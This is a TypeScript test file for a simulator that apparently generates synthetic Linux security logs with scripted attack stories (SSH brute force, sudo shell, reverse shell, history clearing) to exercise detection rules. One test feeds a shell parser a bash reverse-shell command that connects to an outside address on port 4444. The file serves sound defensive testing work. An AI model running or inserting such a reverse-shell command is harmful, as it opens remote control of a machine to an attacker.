import { assertValidDocument, getField } from '../../schema';
import { simulateFleet, STORIES, countByDataset, splitArgs } from './index';

describe('fleet simulator', () => {
  const sim = simulateFleet({ seed: 7 });

  it('produces the same documents from the same seed', () => {
    const again = simulateFleet({ seed: 7 });
    expect(again.documents.length).toBe(sim.documents.length);
    expect(JSON.stringify(again.documents.slice(0, 500))).toBe(JSON.stringify(sim.documents.slice(0, 500)));
    expect(again.alerts.map((a) => getField(a.doc, 'event.id'))).toEqual(sim.alerts.map((a) => getField(a.doc, 'event.id')));
  });

  it('produces a different week from a different seed', () => {
    const other = simulateFleet({ seed: 8, hosts: 5, days: 2 });
    const mine = simulateFleet({ seed: 7, hosts: 5, days: 2 });
    expect(JSON.stringify(other.documents.slice(0, 50))).not.toBe(JSON.stringify(mine.documents.slice(0, 50)));
  });

  it('emits only valid ECS documents with unique deterministic ids', () => {
    const ids = new Set<string>();
    for (const d of [...sim.documents, ...sim.alerts]) {
      assertValidDocument(d.doc);
      const id = getField(d.doc, 'event.id') as string;
      expect(ids.has(id)).toBe(false);
      ids.add(id);
    }
  });

  it('simulates about twenty hosts over seven days in every dataset', () => {
    expect(sim.fleet.hosts).toHaveLength(20);
    expect(sim.fleet.end - sim.fleet.start).toBe(7 * 86_400_000);
    const counts = countByDataset(sim.documents);
    expect(counts['commands']).toBeGreaterThan(2000);
    expect(counts['auditd']).toBeGreaterThan(5000);
    expect(counts['agent']).toBeGreaterThan(6000);
    expect(counts['deadletter']).toBe(9);
  });

  it('tells every attack story', () => {
    const told = new Set(sim.actions.map((a) => a.story).filter(Boolean));
    for (const s of STORIES) expect(told).toContain(s);
    const rules = new Set(sim.alerts.map((a) => getField(a.doc, 'rule.id')));
    for (const r of ['auditkit.linux.ssh_bruteforce_success', 'auditkit.linux.sudo_shell', 'auditkit.linux.reverse_shell', 'auditkit.linux.history_cleared', 'auditkit.linux.uid0_account', 'auditkit.linux.cron_modified']) {
      expect(rules).toContain(r);
    }
  });

  it('guesses passwords from one address and then logs in from it', () => {
    const logins = sim.documents.filter((d) => getField(d.doc, 'event.action') === 'logged-in' && getField(d.doc, 'source.ip') === '203.0.113.45');
    const failures = logins.filter((d) => getField(d.doc, 'event.outcome') === 'failure');
    const success = logins.filter((d) => getField(d.doc, 'event.outcome') === 'success');
    expect(failures.length).toBeGreaterThanOrEqual(40);
    expect(success).toHaveLength(1);
    expect(getField(success[0]?.doc, 'user.name')).toBe('deploy');
  });

  it('keeps the login user behind sudo as the entry leader', () => {
    const rootShell = sim.documents.find((d) => getField(d.doc, 'process.executable') === '/bin/sh' && getField(d.doc, 'user.name') === 'root');
    expect(getField(rootShell?.doc, 'process.entry_leader.user.name')).toBe('mia.zhang');
    const hooked = sim.documents.find((d) => d.dataset === 'commands' && String(getField(d.doc, 'process.command_line')).startsWith('sudo systemctl restart'));
    expect(getField(hooked?.doc, 'user.name')).toBe(getField(hooked?.doc, 'process.entry_leader.user.name'));
    expect(getField(hooked?.doc, 'auditkit.tty')).toMatch(/^pts\/\d$/);
  });

  it('makes one host go silent and one collector dead-letter', () => {
    const silent = sim.incidents.silentHost;
    expect(silent).toBeDefined();
    const last = Math.max(...sim.documents.filter((d) => d.dataset === 'agent' && getField(d.doc, 'host.name') === silent?.host).map((d) => Date.parse(getField(d.doc, '@timestamp') as string)));
    expect(last).toBeLessThan(silent?.from ?? 0);
    const dl = sim.documents.filter((d) => d.dataset === 'deadletter').map((d) => getField(d.doc, 'host.name'));
    expect(new Set(dl)).toEqual(new Set([sim.incidents.deadletterHost]));
  });

  it('splits command lines like the shell', () => {
    expect(splitArgs(`bash -c "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1"`)).toEqual(['bash', '-c', 'bash -i >& /dev/tcp/1.2.3.4/4444 0>&1']);
    expect(splitArgs("a '' b")).toEqual(['a', '', 'b']);
  });
});
